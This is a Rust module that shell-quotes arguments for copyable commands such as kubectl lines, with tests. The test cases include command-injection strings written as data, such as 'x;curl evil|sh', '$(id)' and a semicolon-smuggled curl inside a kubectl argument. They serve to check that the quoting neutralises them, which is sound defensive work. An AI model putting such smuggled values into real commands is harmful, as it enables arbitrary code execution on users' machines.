//! Commands that a person may copy into a shell.

use std::fmt::Write as _;

use super::escape;

/// One argument as a POSIX shell reads it back (bash, zsh, dash; PowerShell for everything without a quote in it). What is
/// plain stays as it is; everything else is put between single quotes. Characters that control a terminal are made visible
/// first, so that such an argument is another one: it is shown, and does nothing.
pub fn quoted(argument: &str) -> String {
    let visible = escape(argument);
    let plain =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '=' | ',' | '@' | '%' | '+');
    if !visible.is_empty() && visible.chars().all(plain) {
        return visible;
    }
    format!("'{}'", visible.replace('\'', "'\\''"))
}

/// A command with each of its arguments [`quoted`]. The first words are the program and its subcommands, as they stand in the
/// source; an argument that comes from elsewhere and could be taken for a flag stands behind its own flag (`-n NAME`) or in one
/// word with its kind (`deployment/NAME`).
pub fn command<'a>(words: &str, arguments: impl IntoIterator<Item = &'a str>) -> String {
    let mut line = words.to_owned();
    for argument in arguments {
        // Writing to a String cannot fail.
        let _ = write!(line, " {}", quoted(argument));
    }
    line
}

#[cfg(test)]
mod tests {
    use std::process::Command;

    use super::*;

    /// Argument, and what is printed.
    const CASES: [(&str, &str); 17] = [
        ("web-0", "web-0"),
        ("deployment/web", "deployment/web"),
        ("deployments.apps", "deployments.apps"),
        ("--replicas=1", "--replicas=1"),
        ("system:node", "system:node"),
        ("", "''"),
        ("x;curl evil|sh", "'x;curl evil|sh'"),
        ("$(id)", "'$(id)'"),
        ("`id`", "'`id`'"),
        ("it's", "'it'\\''s'"),
        ("a b", "'a b'"),
        ("~", "'~'"),
        ("*", "'*'"),
        ("a\nb", "'a\\nb'"),
        ("\x1b[2J", "'^[[2J'"),
        ("!!", "'!!'"),
        ("{a,b}", "'{a,b}'"),
    ];

    #[test]
    fn arguments_are_quoted() {
        for (argument, wanted) in CASES {
            assert_eq!(quoted(argument), wanted, "{argument:?}");
        }
        let line = command(
            "kubectl scale",
            ["statefulset/x;curl evil", "-n", "shop", "--replicas=0"],
        );
        assert_eq!(line, "kubectl scale 'statefulset/x;curl evil' -n shop --replicas=0");
    }

    /// A real shell reads each as one word, and runs none of it.
    #[cfg(unix)]
    #[test]
    fn a_shell_reads_them_back() {
        for (argument, _) in CASES {
            let script = format!("printf '%s' {}", quoted(argument));
            let Ok(ran) = Command::new("sh").args(["-c", &script]).output() else {
                continue;
            };
            assert_eq!(String::from_utf8_lossy(&ran.stdout), escape(argument), "{script}");
        }
    }
}
